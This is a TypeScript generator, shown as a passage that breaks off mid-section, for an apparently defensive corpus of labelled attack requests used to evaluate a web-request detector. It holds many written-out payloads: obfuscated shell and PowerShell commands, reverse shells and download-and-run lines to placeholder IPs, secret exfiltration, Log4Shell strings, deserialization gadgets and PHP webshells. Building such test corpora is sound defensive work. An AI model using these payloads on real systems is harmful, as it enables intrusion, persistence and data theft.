/**
 * Blind attack set 9 (session 38, at38): issue 14's families again, weighted toward the families and placements
 * sets 4-8 draw thinly: template injection in less common engines (Pebble, Jinjava, Thymeleaf inlining, Dust, doT,
 * Marko, Cheetah, Genshi, Sprig, Blade, Smarty internals, Velocity tools, FreeMarker's ObjectConstructor), NoSQL
 * operators in bracket, dot and JSON syntax, XXE variants (XInclude in SOAP, FTP and CDATA exfiltration, UTF-16BE,
 * KML/ODT/PPTX/XMP carriers), LDAP and XPath injection, deserialization in other encodings (hex, base64url, gzip,
 * XMLDecoder, Hessian, pickle protocol 4, Ruby Marshal, PyYAML, node-serialize, .NET BinaryFormatter), SSRF
 * address notations and metadata services of more clouds, CRLF with Unicode truncation and request smuggling
 * bodies, prototype pollution through query-string syntax, PowerShell and cmd obfuscation (caret, delayed expansion,
 * -f format, -replace, reversed strings, wildcard command lookup), polyglots, GraphQL-borne injections in inline
 * arguments, WebDAV and method-based attacks, traversal in unusual encodings (%u, fullwidth, overlong slash,
 * Tomcat `..;/`, nginx alias, NTFS streams). Written by hand from knowledge of each class (no payload list, no
 * captured traffic); placed where real requests carry them (query, form, JSON, XML/SOAP, multipart fields, file
 * names and archives, headers, cookies, path segments, GraphQL, YAML, WebDAV bodies).
 * Written and committed before anything was measured on it (DEVELOPERS.md, "Blind sets").
 *
 *   npx tsx datasets/blind-probes/set-9.ts > datasets/blind-probes/set-9.ndjson
 *   warden eval --per-request --corpus datasets/blind-probes/set-9.ndjson
 *
 * Records: `source: blind-9`, `label: attack`, `category: <family>`, ids `bp9/<family>/<n>`.
 */
import { crc32, gzipSync } from 'node:zlib';
import type { RequestRecord } from '../../src/eval/record.js';

const HOST = 'shop.example.test';
const UAS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 17_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.6 Mobile/15E148 Safari/604.1',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'curl/8.11.0',
  'python-httpx/0.27.2',
  'axios/1.7.7',
  'Java/17.0.12',
  'PostmanRuntime/7.42.0',
  'Go-http-client/1.1',
];

const records: RequestRecord[] = [];
const counters = new Map<string, number>();

/** Percent-encodes as a browser's form or a client library does; `strict` also takes `!'()*`. */
function enc(text: string, strict = false): string {
  const e = encodeURIComponent(text);
  return strict ? e.replace(/[!'()*]/g, (c) => `%${c.charCodeAt(0).toString(16).toUpperCase()}`) : e;
}
const formEnc = (text: string): string => enc(text, true).replace(/%20/g, '+');
const b64 = (text: string | Buffer): string => Buffer.from(text).toString('base64');
const b64utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64');
/** Every byte percent-encoded, letters and digits too (an over-encoding client). */
const pctAll = (text: string): string => [...Buffer.from(text, 'utf8')].map((b) => `%${b.toString(16).padStart(2, '0')}`).join('');

interface Opts {
  headers?: Record<string, string>;
  ua?: string;
}

function push(category: string, method: string, path: string, query: string, body: string | Buffer | undefined, opts: Opts & { ctype?: string } = {}): void {
  const n = counters.get(category) ?? 0;
  counters.set(category, n + 1);
  const headers: Record<string, string> = {
    Host: HOST,
    'User-Agent': opts.ua ?? UAS[(records.length * 5) % UAS.length],
    Accept: 'application/json, text/plain, */*',
    'Accept-Language': 'en-GB,en;q=0.8',
  };
  if (opts.ctype) headers['Content-Type'] = opts.ctype;
  Object.assign(headers, opts.headers ?? {});
  const r: RequestRecord = { id: `bp9/${category}/${n}`, source: 'blind-9', label: 'attack', category, method, path, query, headers };
  if (typeof body === 'string') r.body = body;
  else if (body !== undefined) {
    r.body = body.toString('base64');
    r.bodyEncoding = 'base64';
  }
  records.push(r);
}

/** GET with the query built from pairs; a value given as [raw] is sent as written (its writer encoded it). */
function q(cat: string, path: string, pairs: [string, string | [string]][], opts: Opts = {}): void {
  const query = pairs.map(([k, v]) => `${enc(k)}=${Array.isArray(v) ? v[0] : enc(v)}`).join('&');
  push(cat, 'GET', path, query, undefined, opts);
}
function form(cat: string, path: string, pairs: [string, string | [string]][], opts: Opts = {}): void {
  const body = pairs.map(([k, v]) => `${formEnc(k)}=${Array.isArray(v) ? v[0] : formEnc(v)}`).join('&');
  push(cat, 'POST', path, '', body, { ...opts, ctype: 'application/x-www-form-urlencoded' });
}
function json(cat: string, path: string, doc: unknown, opts: Opts & { method?: string; ctype?: string } = {}): void {
  const body = typeof doc === 'string' ? doc : JSON.stringify(doc);
  push(cat, opts.method ?? 'POST', path, '', body, { ...opts, ctype: opts.ctype ?? 'application/json' });
}
/** A JSON or form body sent gzip-compressed with `Content-Encoding: gzip`, as mobile SDKs and beacons send them. */
function gz(cat: string, path: string, text: string, ctype: string, opts: Opts = {}): void {
  push(cat, 'POST', path, '', gzipSync(Buffer.from(text, 'utf8')), { ...opts, ctype, headers: { ...(opts.headers ?? {}), 'Content-Encoding': 'gzip' } });
}
function gql(cat: string, query: string, variables: Record<string, unknown>, opts: Opts = {}): void {
  push(cat, 'POST', '/graphql', '', JSON.stringify({ operationName: null, query, variables }), { ...opts, ctype: 'application/json' });
}
function xml(cat: string, path: string, text: string | Buffer, opts: Opts & { ctype?: string } = {}): void {
  push(cat, 'POST', path, '', text, { ...opts, ctype: opts.ctype ?? 'application/xml' });
}
interface Part { name: string; filename?: string; type?: string; content: string | Buffer }
function mp(cat: string, path: string, parts: Part[], opts: Opts = {}): void {
  const b = '----WebKitFormBoundaryAt38s9Qw7Tn';
  const chunks: Buffer[] = [];
  let binary = false;
  for (const p of parts) {
    const disp = `Content-Disposition: form-data; name="${p.name}"${p.filename !== undefined ? `; filename="${p.filename}"` : ''}`;
    chunks.push(Buffer.from(`--${b}\r\n${disp}\r\n${p.type ? `Content-Type: ${p.type}\r\n` : ''}\r\n`, 'utf8'));
    if (Buffer.isBuffer(p.content)) binary = true;
    chunks.push(Buffer.isBuffer(p.content) ? p.content : Buffer.from(p.content, 'utf8'));
    chunks.push(Buffer.from('\r\n'));
  }
  chunks.push(Buffer.from(`--${b}--\r\n`));
  const all = Buffer.concat(chunks);
  push(cat, 'POST', path, '', binary ? all : all.toString('utf8'), { ...opts, ctype: `multipart/form-data; boundary=${b}` });
}
function hdr(cat: string, path: string, headers: Record<string, string>, query = ''): void {
  push(cat, 'GET', path, query, undefined, { headers, ua: headers['User-Agent'] });
}
function get(cat: string, path: string, query = '', opts: Opts = {}): void {
  push(cat, 'GET', path, query, undefined, opts);
}
/** A zip archive of stored (uncompressed) entries, as a plugin, theme or document upload carries it. */
function zip(entries: [string, string][]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const [name, text] of entries) {
    const nameB = Buffer.from(name, 'utf8');
    const data = Buffer.from(text, 'utf8');
    const crc = crc32(data);
    const lh = Buffer.alloc(30);
    lh.writeUInt32LE(0x04034b50, 0); lh.writeUInt16LE(20, 4); lh.writeUInt16LE(0, 6); lh.writeUInt16LE(0, 8);
    lh.writeUInt16LE(0, 10); lh.writeUInt16LE(0x5921, 12); lh.writeUInt32LE(crc, 14); lh.writeUInt32LE(data.length, 18);
    lh.writeUInt32LE(data.length, 22); lh.writeUInt16LE(nameB.length, 26); lh.writeUInt16LE(0, 28);
    const ch = Buffer.alloc(46);
    ch.writeUInt32LE(0x02014b50, 0); ch.writeUInt16LE(20, 4); ch.writeUInt16LE(20, 6); ch.writeUInt16LE(0, 8); ch.writeUInt16LE(0, 10);
    ch.writeUInt16LE(0, 12); ch.writeUInt16LE(0x5921, 14); ch.writeUInt32LE(crc, 16); ch.writeUInt32LE(data.length, 20);
    ch.writeUInt32LE(data.length, 24); ch.writeUInt16LE(nameB.length, 28); ch.writeUInt32LE(offset, 42);
    locals.push(lh, nameB, data);
    centrals.push(ch, nameB);
    offset += 30 + nameB.length + data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0); end.writeUInt16LE(entries.length, 8); end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12); end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}
/** A body sent as written with its content type (YAML, plain text, a raw form an attacker wrote by hand). */
function raw(cat: string, method: string, path: string, text: string, ctype: string, opts: Opts = {}): void {
  push(cat, method, path, '', text, { ...opts, ctype });
}
/** HTML/XML numeric entities for every character (a SOAP or XML client escaping a value). */
const ent = (text: string): string => [...text].map((ch) => `&#${ch.codePointAt(0)};`).join('');

// ---------------------------------------------------------------- shell: quoting, globbing, slicing, tool argument injection
{
  const c = 'shell';
  q(c, '/api/net/ping', [['host', "203.0.113.1;c''a''t /e''tc/pa''ss''wd"]]);
  q(c, '/api/net/ping', [['host', '203.0.113.1;/???/c?t /???/p??s??']]);
  form(c, '/admin/diag/trace', [['target', "x;$(rev<<<'di')"]]);
  json(c, '/api/devices/3/exec', { arg: 'eth0;cat${IFS}${HOME:0:1}etc${HOME:0:1}shadow' });
  q(c, '/api/net/dns', [['name', "x;$'\\151\\144'"]]);
  json(c, '/api/net/dns', { name: 'example.org&&xxd -r -p<<<6964|sh' });
  form(c, '/admin/tools/run', [['args', "--version && awk 'BEGIN{system(\"id\")}'"]]);
  q(c, '/api/net/ping', [['host', 'x|busybox nc 203.0.113.2 4444 -e sh']]);
  json(c, '/api/hooks/post-receive', { cmd: 'git pull; socat tcp:203.0.113.3:443 exec:sh,pty,stderr,setsid' });
  form(c, '/admin/diag/ping', [['target', '127.0.0.1;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.4 4444 >/tmp/f']]);
  json(c, '/api/repos/import', { url: 'https://git.example.org/team/app.git', options: ['--upload-pack=touch /tmp/pwn', '--depth=1'] });
  form(c, '/api/archive/create', [['files', 'report.pdf'], ['flags', "-T -TT 'sh -c id #'"]]);
  json(c, '/api/images/convert', { input: '|curl -s 203.0.113.5/i.sh|sh', format: 'png' });
  form(c, '/api/pdf/ghostscript', [['out', '%pipe%id > /tmp/gs']]);
  json(c, '/api/tools/wget', { args: ['--post-file=/etc/passwd', 'http://203.0.113.6/c'] });
  json(c, '/api/build/run', { image: 'alpine', env: { GIT_SSH_COMMAND: 'sh -c "id>/tmp/o" #' } });
  hdr(c, '/api/metrics', { 'X-Real-IP': '203.0.113.7`w\\hoami`' });
  q(c, '/api/net/ping', [['host', 'x;export X=i;export Y=d;$X$Y']]);
  q(c, '/api/net/ping', [['host', ['x%3Bbash%20%3C(curl%20-s%20203.0.113.8%2Fa)']]]);
  raw(c, 'POST', '/api/pipelines', 'stages:\n  - build\nbuild:\n  script:\n    - npm ci\n    - "echo ${CI_JOB_TOKEN} | curl -d @- http://203.0.113.9/t"\n', 'application/x-yaml');
  mp(c, '/api/backup/restore', [{ name: 'name', content: 'nightly' }, { name: 'hook', content: 'x; curl -F f=@/etc/passwd http://203.0.113.10/u' }]);
  json(c, '/api/net/ping', `{"host":"x;\\u0069\\u0064"}`);
  hdr(c, '/dashboard', { Cookie: 'pref=compact; debug=1$(printf${IFS}\'\\x69\\x64\')' });
  xml(c, '/ws/diagnostics', '<?xml version="1.0"?><diag><host>127.0.0.1 &amp;&amp; echo $(&lt;/etc/passwd)</host></diag>');
  json(c, '/api/ssh/keys', { name: 'laptop', command: 'command="sh -i >& /dev/udp/203.0.113.11/53 0>&1" ssh-ed25519 AAAAC3Nz' });
}

// ---------------------------------------------------------------- PowerShell and cmd obfuscation, LOLBins
{
  const c = 'windows';
  form(c, '/admin/exec', [['cmd', `x & powershell -ec ${b64utf16('iwr http://203.0.113.31/a -OutFile $env:TEMP\\a.exe; & $env:TEMP\\a.exe')}`]]);
  q(c, '/tools/ping', [['host', '127.0.0.1 & p^o^w^e^r^s^h^e^l^l -c who^ami']]);
  form(c, '/admin/exec', [['cmd', 'x & cmd /v:on /c "set a=who&&set b=ami&& !a!!b!"']]);
  json(c, '/api/agents/job', { script: "&(gcm i*e-e*n) ('who'+'ami')" });
  json(c, '/api/agents/job', { script: ".($env:ComSpec[4,15,25]-join'') ('Get-Process')" });
  form(c, '/admin/exec', [['cmd', "[ScriptBlock]::Create('net user').Invoke()"]]);
  q(c, '/tools/resolve', [['n', 'x & mshta vbscript:Execute("CreateObject(""WScript.Shell"").Run ""cmd /c whoami"":close")']]);
  json(c, '/api/devices/run', { command: 'rundll32.exe javascript:"\\..\\mshtml,RunHTMLApplication ";document.write();GetObject("script:http://203.0.113.32/r.sct")' });
  form(c, '/admin/exec', [['cmd', 'x & cscript //nologo //E:jscript \\\\203.0.113.33\\s\\p.txt']]);
  json(c, '/api/software/install', { package: 'x & msiexec /q /i http://203.0.113.34/p.msi' });
  json(c, '/api/agents/job', { script: "(\"{2}{0}{1}\" -f 'oam','i','wh') | &('ie'+'x')" });
  json(c, '/api/agents/job', { script: "('wh0am1' -replace '0','o' -replace '1','i') | Invoke-Expression" });
  form(c, '/admin/exec', [['cmd', "-join('imaohw'[-1..-6]) | iex"]]);
  json(c, '/api/agents/job', { script: "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAAAAAEAMvMK0ktLgEAe4M8QgYAAAA='));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()" });
  json(c, '/api/endpoint/policy', { onboard: 'Add-MpPreference -ExclusionPath C:\\ ; Set-MpPreference -DisableIOAVProtection $true' });
  form(c, '/admin/exec', [['cmd', 'x & reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v upd /t REG_SZ /d "C:\\Users\\Public\\u.exe" /f']]);
  q(c, '/tools/ping', [['host', '127.0.0.1 && net user svc_bk P4ss!w0rd /add && net localgroup administrators svc_bk /add']]);
  json(c, '/api/logs/rotate', { after: 'wevtutil cl Security & wevtutil cl System' });
  hdr(c, '/api/inventory', { 'X-Agent-Cmd': 'powershell.exe -NoP -NonI -W Hidden -Exec Bypass -Command "Start-BitsTransfer -Source http://203.0.113.35/b.exe -Destination $env:APPDATA\\b.exe"' });
  form(c, '/admin/exec', [['cmd', 'x & cmd /c "wh"^o^"ami" /a""ll']]);
  json(c, '/api/agents/job', { script: "$ExecutionContext.InvokeCommand.InvokeScript('whoami')" });
  q(c, '/tools/ping', [['host', ['127.0.0.1%20%7C%20%25COMSPEC%25%20%2Fc%20type%20C%3A%5Cwindows%5Cwin.ini']]]);
  form(c, '/admin/exec', [['cmd', 'x & bitsadmin /transfer j /download /priority high http://203.0.113.36/s.exe C:\\Users\\Public\\s.exe']]);
  gql(c, 'mutation S($s: String!) { runScript(body: $s) { out } }', { s: "SyncAppvPublishingServer.vbs \"n; IEX(IWR http://203.0.113.37/x -UseBasicParsing)\"" });
  mp(c, '/api/scripts/upload', [{ name: 'script', filename: 'inventory.ps1', type: 'text/plain', content: "$wc=New-Object System.Net.WebClient;$wc.Headers.Add('UA','x');$d=$wc.DownloadData('http://203.0.113.38/p.bin');[System.Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)\r\n" }]);
}

// ---------------------------------------------------------------- JVM: expression languages, Text4Shell, JDBC URLs, actuator, Groovy AST
{
  const c = 'jvm';
  hdr(c, '/functionRouter', { 'spring.cloud.function.routing-expression': "T(java.lang.Runtime).getRuntime().exec('touch /tmp/scf')" });
  form(c, '/login.action', [['redirect:${#a=(new java.lang.ProcessBuilder(new java.lang.String[]{"id"})).start()}', 'x']]);
  q(c, '/index.action', [['action:${(#x=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\'id\').getInputStream()))}', '']]);
  json(c, '/api/text/interpolate', { template: "${script:javascript:java.lang.Runtime.getRuntime().exec('touch /tmp/t4s')}" });
  q(c, '/api/text/interpolate', [['t', '${url:UTF-8:http://203.0.113.41/c}']]);
  form(c, '/api/text/interpolate', [['t', '${dns:address|x.oast.example}']]);
  json(c, '/api/datasources/test', { url: 'jdbc:mysql://203.0.113.42:3306/db?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor&user=yso' });
  json(c, '/api/datasources/test', { url: "jdbc:h2:mem:;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.43/x.sql'" });
  json(c, '/actuator/env', { name: 'spring.datasource.hikari.connection-test-query', value: "CREATE ALIAS EXEC AS CONCAT('String shellexec(String cmd) throws java.io.IOException { Runtime.getRuntime().exec(cmd); return \"\"; }');CALL EXEC('id');" });
  form(c, '/actuator/env', [['eureka.client.serviceUrl.defaultZone', 'http://203.0.113.44/xstream']]);
  json(c, '/actuator/env', { name: 'logging.config', value: 'http://203.0.113.45/logback.xml' });
  form(c, '/pipeline/checkScript', [['value', '@GrabConfig(disableChecksums=true)\n@GrabResolver(name="x", root="http://203.0.113.46/")\n@Grab(group="p", module="p", version="1")\nimport P;'], ['sandbox', 'true']]);
  json(c, '/api/rules/groovy', { script: '@groovy.transform.ASTTest(value={ assert java.lang.Runtime.getRuntime().exec("id") })\ndef x' });
  json(c, '/api/rules/js', { script: 'new java.lang.ProcessBuilder["(java.lang.String[])"](["sh","-c","id"]).start()' });
  form(c, '/api/expr', [['e', "${''.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval('java.lang.Runtime.getRuntime().exec(\"id\")')}"]]);
  json(c, '/api/ldap/settings', { 'java.naming.factory.initial': 'com.sun.jndi.ldap.LdapCtxFactory', 'java.naming.provider.url': 'ldap://203.0.113.47:1389/Basic/Command/id' });
  mp(c, '/index', [{ name: 'class.module.classLoader.resources.context.parent.pipeline.first.pattern', content: '%{c2}i if("j".equals(request.getParameter("pwd"))){ }' }, { name: 'class.module.classLoader.resources.context.parent.pipeline.first.suffix', content: '.jsp' }]);
  json(c, '/api/import', '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://203.0.113.48:1389/x"}]');
  json(c, '/api/v2/parse', '{"@type":"java.net.Inet4Address","val":"fj.oast.example"}');
  q(c, '/api/calc', [['expr', "T(java.lang.Thread).sleep(10000)"]]);
  json(c, '/api/import', '{"@class":"org.springframework.context.support.FileSystemXmlApplicationContext","configLocation":"http://203.0.113.49/s.xml"}');
  gql(c, 'mutation G($r: RouteInput!) { addRoute(route: $r) { id } }', { r: { id: 'r1', filters: [{ name: 'AddResponseHeader', args: { name: 'X', value: "#{new String(T(java.nio.file.Files).readAllBytes(T(java.nio.file.Paths).get('/etc/passwd')))}" } }], uri: 'http://example.org' } });
}

// ---------------------------------------------------------------- log4shell: other lookups, the 2.15 bypass, other carriers
{
  const c = 'log4shell';
  hdr(c, '/', { Origin: '${${lower:${lower:jndi}}:${lower:rmi}://203.0.113.61/a}' });
  q(c, '/api/search', [['q', '${jndi:ldap://127.0.0.1#l4j.oast.example:1389/b}']]);
  hdr(c, '/', { Forwarded: 'for="${jndi:ldap://203.0.113.62/c}";proto=https' });
  get(c, `/${pctAll('${jndi:ldap://203.0.113.63/d}')}`);
  form(c, '/contact', [['name', '&#x24;&#x7b;jndi:ldap://203.0.113.64/e&#x7d;']]);
  hdr(c, '/api/orders', { Authorization: 'Bearer ${${ctx:loginId:-j}ndi:ldap://203.0.113.65/f}' });
  json(c, '/api/events', { type: 'view', page: '${${spring:x:-j}${spring:x:-n}di:iiop://203.0.113.66/g}' });
  hdr(c, '/', { 'If-None-Match': '"${jndi:http://203.0.113.67/h}"' });
  xml(c, '/soap/Accounts', '<?xml version="1.0"?><soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><auth user="${jndi:ldap://203.0.113.68/i}"/></soapenv:Header><soapenv:Body><list/></soapenv:Body></soapenv:Envelope>', { ctype: 'text/xml' });
  mp(c, '/api/tickets', [{ name: 'subject', content: 'Printer broken' }, { name: 'body', content: 'hi ${${::-${::-j}}ndi:ldap://203.0.113.69/k} thanks' }]);
  hdr(c, '/', { 'Accept-Charset': '${jndi:ldap://${hostName}.${env:HOSTNAME:-x}.l.oast.example/l}' });
  q(c, '/api/search', [['q', ['%u0024%u007bjndi:ldap://203.0.113.70/m%u007d']]]);
  hdr(c, '/api/v1/ping', { 'X-Forwarded-Proto': '${${event:x:-j}ndi:dns://203.0.113.71/n}' });
  gql(c, 'query ${jndi:ldap://203.0.113.72/o} { me { id } }', {});
  hdr(c, '/', { Cookie: `_ga=GA1.2.1.1; pref=${enc('${jndi:${lower:L}DAP://203.0.113.73/p}')}` });
}

// ---------------------------------------------------------------- Shellshock in other exported headers and spacings
{
  const c = 'shellshock';
  hdr(c, '/cgi-bin/status.cgi', { From: '() { :;}; /bin/bash -c "id"' });
  hdr(c, '/cgi-bin/info.sh', { Pragma: '()\t{\t:;\t};\t/usr/bin/id' });
  hdr(c, '/cgi-bin/ping.cgi', { 'X-Originating-IP': '() { :; }; /bin/ping -c1 203.0.113.81' });
  hdr(c, '/cgi-bin/feedback.pl', { Via: '1.1 () { :;}; echo; /bin/cat /etc/passwd' });
  hdr(c, '/cgi-bin/welcome', { DNT: '() { x;}; wget -O- http://203.0.113.82/s | sh' });
  hdr(c, '/cgi-bin/vpn.cgi', { Authorization: 'Basic () { :; }; /bin/busybox telnetd -p 2323 -l /bin/sh' });
  hdr(c, '/cgi-bin/admin.cgi', { 'User-Agent': 'bash -c \'x() { _; }; x() { _; } <<a; }\' () { :; }; id' });
  hdr(c, '/cgi-sys/defaultwebpage.cgi', { 'X-Request-Id': '() { :; }; echo "Content-type: text/plain"; echo; /usr/bin/env' });
}

// ---------------------------------------------------------------- deserialization: other formats and encodings
{
  const c = 'serialized';
  const jstr = (s: string): Buffer => Buffer.concat([Buffer.from([(s.length >> 8) & 0xff, s.length & 0xff]), Buffer.from(s, 'latin1')]);
  const javaBean = Buffer.concat([Buffer.from([0xac, 0xed, 0x00, 0x05, 0x73, 0x72]), jstr('org.apache.commons.beanutils.BeanComparator'), Buffer.from([0xe3, 0xa1, 0x88, 0xea, 0x73, 0x22, 0xa4, 0x48, 0x02, 0x00, 0x02, 0x4c, 0x00, 0x0a]), Buffer.from('comparator', 'latin1'), Buffer.from([0x74]), jstr('Ljava/util/Comparator;'), Buffer.from([0x4c, 0x00, 0x08]), Buffer.from('property', 'latin1'), Buffer.from([0x74]), jstr('Ljava/lang/String;'), Buffer.from([0x78, 0x70, 0x74]), jstr('outputProperties')]);
  json(c, '/api/cache/put', { key: 'u7', blob: javaBean.toString('hex') });
  hdr(c, '/app/home', { Cookie: `rememberMe=${javaBean.toString('base64url')}; JSESSIONID=9F2C` });
  form(c, '/faces/index.xhtml', [['javax.faces.ViewState', gzipSync(javaBean).toString('base64')], ['j_id1', 'j_id1']]);
  push(c, 'POST', '/invoker/JMXInvokerServlet', '', javaBean, { ctype: 'application/x-java-serialized-object' });
  const bf = Buffer.concat([Buffer.from([0x00, 0x01, 0x00, 0x00, 0x00, 0xff, 0xff, 0xff, 0xff, 0x01, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x00, 0x0c, 0x02, 0x00, 0x00, 0x00]), Buffer.from('System.Windows.Forms, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b77a5c561934e089', 'latin1'), Buffer.from([0x05, 0x01, 0x00, 0x00, 0x00]), Buffer.from('System.Windows.Forms.AxHost+State', 'latin1')]);
  hdr(c, '/api/session/restore', { 'X-State': bf.toString('base64') });
  json(c, '/api/settings/import', '{"$type":"System.Configuration.Install.AssemblyInstaller, System.Configuration.Install, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a","Path":"file:///C:/Users/Public/x.dll"}');
  hdr(c, '/account', { Cookie: `prefs=${b64('O:8:"stdClass":1:{s:4:"role";O:18:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\0*\0socket";O:29:"Monolog\\Handler\\BufferHandler":1:{s:10:"\0*\0handler";s:6:"system";}}}')}; lang=de` });
  json(c, '/api/cart/restore', { cart: 'a:2:{i:0;O:31:"GuzzleHttp\\Cookie\\FileCookieJar":2:{s:41:"\0GuzzleHttp\\Cookie\\FileCookieJar\0filename";s:22:"/var/www/html/shell.php";}i:1;s:1:"x";}' });
  q(c, '/image/info', [['path', 'phar://uploads/avatars/77.jpg/x.txt']]);
  const pickle4 = Buffer.concat([Buffer.from([0x80, 0x04, 0x95, 0x2a, 0, 0, 0, 0, 0, 0, 0, 0x8c, 0x05]), Buffer.from('posix', 'latin1'), Buffer.from([0x94, 0x8c, 0x06]), Buffer.from('system', 'latin1'), Buffer.from([0x94, 0x93, 0x94, 0x8c, 0x0f]), Buffer.from('curl 203.0.113.91|sh', 'latin1'), Buffer.from([0x94, 0x85, 0x94, 0x52, 0x94, 0x2e])]);
  form(c, '/api/ml/upload-state', [['state', pickle4.toString('base64')], ['model', 'churn-v3']]);
  json(c, '/api/jobs/result', { result: pickle4.toString('hex') });
  const marshal = Buffer.concat([Buffer.from([0x04, 0x08, 0x6f, 0x3a, 0x15]), Buffer.from('Gem::Requirement', 'latin1'), Buffer.from([0x06, 0x3a, 0x11]), Buffer.from('@requirements', 'latin1'), Buffer.from([0x5b, 0x06, 0x6f, 0x3a, 0x18]), Buffer.from('Gem::DependencyList', 'latin1'), Buffer.from('Kernel system id', 'latin1')]);
  hdr(c, '/rails/session', { Cookie: `_app_session=${enc(marshal.toString('base64'))}--0f2b7c` });
  raw(c, 'POST', '/api/config/load', 'worker: !!python/object/apply:os.system ["curl 203.0.113.92 | sh"]\n', 'application/x-yaml');
  raw(c, 'POST', '/api/config/load', 'job:\n  run: !!python/object/new:subprocess.check_output [["id"]]\n', 'text/yaml');
  json(c, '/api/profile/restore', { data: '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}' });
  xml(c, '/wls-wsat/CoordinatorPortType', '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header><work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"><array class="java.lang.String" length="3"><void index="0"><string>/bin/sh</string></void><void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array><void method="start"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>', { ctype: 'text/xml' });
  push(c, 'POST', '/hessian/userService', '', Buffer.concat([Buffer.from([0x63, 0x02, 0x00, 0x6d, 0x00, 0x04]), Buffer.from('find', 'latin1'), Buffer.from([0x4d, 0x74, 0x00, 0x00, 0x53, 0x00, 0x2b]), Buffer.from('com.rometools.rome.feed.impl.EqualsBean', 'latin1'), Buffer.from([0x53, 0x00, 0x1c]), Buffer.from('com.sun.rowset.JdbcRowSetImpl', 'latin1'), Buffer.from('ldap://203.0.113.93/h', 'latin1')]), { ctype: 'application/x-hessian' });
  raw(c, 'POST', '/api/config/import', 'source: !!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://203.0.113.94:1389/y\n  autoCommit: true\n', 'application/yaml');
  json(c, '/api/layout/load', { layout: { '$type': 'System.Windows.Data.ObjectDataProvider, PresentationFramework', MethodName: 'Start', ObjectInstance: { '$type': 'System.Diagnostics.Process, System' }, MethodParameters: { '$type': 'System.Collections.ArrayList, mscorlib', '$values': ['powershell', '-c iwr 203.0.113.95'] } } });
}

// ---------------------------------------------------------------- PHP: filter chains, CGI argument injection, XOR shells, wrappers
{
  const c = 'php';
  q(c, '/index.php', [['page', 'php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.CP1162.UTF32|convert.iconv.L4.T.61|convert.base64-decode/resource=php://temp']]);
  q(c, '/index.php', [['file', 'data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==']]);
  q(c, '/index.php', [['inc', 'expect://id']]);
  get(c, '/php-cgi/php-cgi.exe', '%ADd+allow_url_include%3D1+%ADd+auto_prepend_file%3Dphp://input');
  get(c, '/index.php', '-d+allow_url_include%3D1+-d+auto_prepend_file%3Dphp://input');
  push(c, 'GET', '/index.php/PHP_VALUE%0Asession.auto_start=1;;;', 'a=aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', undefined);
  form(c, '/admin/snippets', [['code', "$x=str_replace('q','','sqyqsqtqeqm');$x('id');"]]);
  form(c, '/admin/snippets', [['code', "call_user_func('sy'.'st'.'em', 'id');"]]);
  form(c, '/wp-content/plugins/x/up.php', [['z0', "@eval(base64_decode($_POST['z1']));"], ['z1', b64("echo shell_exec('id');")]]);
  form(c, '/admin/snippets', [['code', "('sy'.'stem')($_GET['c']);"]]);
  form(c, '/admin/snippets', [['code', '<?php $_=~"\\x8c\\x86\\x8c\\x8b\\x9a\\x92";$_($_GET[0]);']]);
  form(c, '/admin/snippets', [['code', '<?php $_="`{{{"^"?<>/";${$_}[_](${$_}[__]);']]);
  json(c, '/_ignition/execute-solution', { solution: 'Facade\\Ignition\\Solutions\\MakeViewVariableOptionalSolution', parameters: { variableName: 'x', viewFile: 'phar:///var/www/storage/logs/laravel.log' } });
  q(c, '/index.php', [['page', 'http://203.0.113.101/shell.txt?']]);
  q(c, '/index.php', [['page', '\\\\203.0.113.102\\share\\s.php']]);
  mp(c, '/upload/photo', [{ name: 'photo', filename: 'me.jpg', type: 'image/jpeg', content: Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xfe, 0x00, 0x2a]), Buffer.from('<?php echo `$_REQUEST[c]`; __halt_compiler();', 'latin1'), Buffer.from([0xff, 0xd9])]) }]);
